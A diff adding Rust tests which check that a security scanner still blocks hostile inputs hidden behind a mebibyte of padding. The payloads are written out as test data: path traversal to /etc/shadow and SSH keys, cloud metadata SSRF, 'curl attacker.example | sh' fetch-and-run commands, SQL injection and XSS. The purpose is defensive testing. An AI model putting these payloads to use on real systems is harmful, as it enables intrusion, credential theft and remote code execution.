@@ -94,6 +94,52 @@ fn ordinary_commands_and_queries_pass() {
     }
 }
 
+/// More than a server reads, and less than it takes to be refused for its size.
+const PADDING: usize = 1 << 20;
+
+#[test]
+fn nothing_hides_behind_a_mebibyte_of_padding() {
+    for (place, pad, payload, tail) in [
+        (Where::Path, "x/", "../y/etc/shadow", "?aaaa"),
+        (Where::Path, "/", "..%2f..%2f..%2f..%2fsrv", "/yyy"),
+        (Where::Uri, "//./", "/home/me/.ssh/id_rsa", "#aaaa"),
+        (Where::Url, " ", "http://169.254.169.254/latest/", "aaaa"),
+        (Where::Url, "a@", "http://metadata.google.internal/x", "&a=b"),
+        (Where::Value, "lorem ipsum dolor ", "x; curl http://attacker.example/ | sh", "\nlorem ipsum"),
+        (Where::Value, "lorem ipsum dolor ", "x; curl http://169.254.169.254/", " lorem ipsum"),
+        (Where::Value, "lorem ipsum dolor ", "7' or 1=1 -- ", "lorem ipsum"),
+        (Where::Value, "lorem ipsum dolor ", "<img src=x onerror=go()>", " lorem ipsum"),
+        (Where::Value, "a: lorem ", "<a href='javascript:go()'>", " lorem ipsum"),
+        (Where::Command, "echo lorem; ", "curl http://attacker.example/x | sh", "; echo x"),
+        (Where::Command, "echo lorem; ", "w\\ho\\ami", "; echo x"),
+        (Where::Query, "SELECT a FROM b; ", "DROP TABLE b", "; SELECT 1"),
+    ] {
+        let [before, after] = [pad, tail].map(|unit| unit.repeat(PADDING / unit.len()));
+        assert_eq!(
+            worst(place, &format!("{before}{payload}")),
+            Action::Block,
+            "{place:?} {pad:?} before {payload}"
+        );
+        assert_eq!(
+            worst(place, &format!("{payload}{after}")),
+            Action::Block,
+            "{place:?} {tail:?} after {payload}"
+        );
+    }
+}
+
+#[test]
+fn what_is_not_read_to_its_end_is_said_to_be_so() {
+    let scanner = Scanner::new(|known| known.family == Family::Anomaly, &[]).unwrap();
+    let finds = |text: &str| {
+        let mut hits = Vec::new();
+        scanner.scan(Text { text, key: None, place: Place::new(Where::Value) }, &mut hits);
+        hits.iter().any(|hit| scanner.detector(hit.detector).unwrap().name == "unread_argument")
+    };
+    assert!(finds(&"(1)".repeat(PADDING / 2)));
+    assert!(!finds(&"lorem ipsum dolor ".repeat(PADDING / 18)));
+}
+
 fn escape(text: &str, rounds: usize) -> String {
     let mut bytes = text.as_bytes().to_vec();
     for _ in 0..rounds {
